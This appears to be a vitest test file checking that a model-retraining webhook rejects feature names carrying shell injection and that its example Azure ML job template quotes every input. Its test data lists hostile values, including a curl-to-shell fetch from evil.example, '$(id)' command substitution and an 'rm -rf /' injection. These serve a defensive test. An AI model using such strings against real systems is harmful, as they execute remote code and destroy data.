import { execFileSync } from 'node:child_process';
import { afterEach, describe, expect, it } from 'vitest';
import { EXAMPLE_JOB_TEMPLATE } from '../../shared/retraining/exampleTemplates.js';
import { alertFixture } from '../shared/retraining/fakes/alertFixtures.js';
import { startRetrainHarness, type RetrainHarness } from '../shared/retraining/fakes/retrainHarness.js';

// Fault suite, item 5: a direct payload's `features` took any characters into `inputs.features.value`, and the example
// job's command used `${{inputs.features}}` unquoted, so `"features": ["x; curl evil | sh"]` reached a shell. Feature
// names are now restricted to a safe set, and the example templates quote every input.
const HOSTILE = [
  'amount; curl http://evil.example/x | sh',
  '$(id)',
  '`id`',
  "x' ; rm -rf / ; '",
  'a\nb',
  'a,b',
  '"quoted"',
];

describe('retrainWebhook with hostile feature names', () => {
  let harness: RetrainHarness;
  afterEach(async () => harness.close());

  it.each(HOSTILE)(
    'refuses the direct payload feature %j with 400, before claiming or submitting anything',
    async (name) => {
      harness = await startRetrainHarness();
      const response = await harness.service.retrain({ drift_magnitude: 0.9, features: ['income', name] });
      expect(response.status).toBe(400);
      expect(response.body.error).toEqual({
        code: 'WEBHOOK.INVALID_PAYLOAD',
        message:
          'Invalid direct payload {drift_magnitude: number, features: string[], reason?: string, model?: string}: features[1] must be a feature name (letters, digits, spaces and _ . - ( ) % / +, at most 256)',
        field: 'features[1]',
      });
      expect(harness.arm.requests).toEqual([]);
      expect(await harness.audit()).toEqual([]);
    },
  );

  it('refuses an alert whose feature dimension carries a hostile name', async () => {
    harness = await startRetrainHarness();
    const alert = alertFixture('metric-fired.json');
    alert.data.alertContext.condition.allOf[0].dimensions = [{ name: 'feature', value: '$(curl evil)' }];
    const response = await harness.service.retrain(alert);
    expect(response.status).toBe(400);
    expect(response.body.error).toMatchObject({
      code: 'WEBHOOK.INVALID_PAYLOAD',
      field: 'data.alertContext.condition.allOf[0].dimensions[0].value',
    });
    expect(harness.arm.jobPuts()).toEqual([]);
  });

  it('passes names with spaces and brackets, and the example command hands every input to the program as one argument', async () => {
    harness = await startRetrainHarness();
    const features = ['sepal length (cm)', 'income_%', 'age'];
    const response = await harness.service.retrain({ drift_magnitude: 0.9, features, model: 'iris' });
    expect(response.status).toBe(202);
    const job = harness.arm.jobPuts()[0]!.body as typeof EXAMPLE_JOB_TEMPLATE;
    const { command, inputs } = job.properties;
    // What Azure ML does with literal inputs: put their values in place of ${{inputs.<name>}}, then run a shell.
    const values = Object.fromEntries(
      Object.entries(inputs).map(([name, input]) => [name, 'value' in input ? input.value : `/mnt/azureml/${name}`]),
    );
    const expanded = command
      .replace(/\$\{\{inputs\.(\w+)\}\}/g, (_whole, name: string) => values[name]!)
      .replace(/^python train\.py/, "printf '%s\\n'");
    const argv = execFileSync('/bin/sh', ['-c', expanded], { encoding: 'utf8' }).split('\n').slice(0, -1);
    expect(argv).toEqual([
      '--capture',
      '/mnt/azureml/capture',
      '--window-start',
      values.window_start,
      '--window-end',
      values.window_end,
      '--features',
      JSON.stringify(features),
      '--model-name',
      'iris',
    ]);
  });
});

describe('the example job template', () => {
  it('quotes every ${{inputs.*}} in its command', () => {
    const uses = EXAMPLE_JOB_TEMPLATE.properties.command.match(/.?\$\{\{inputs\.\w+\}\}.?/g) ?? [];
    expect(uses.length).toBe(5);
    for (const use of uses) expect(use).toMatch(/^'.*'$/);
  });
});
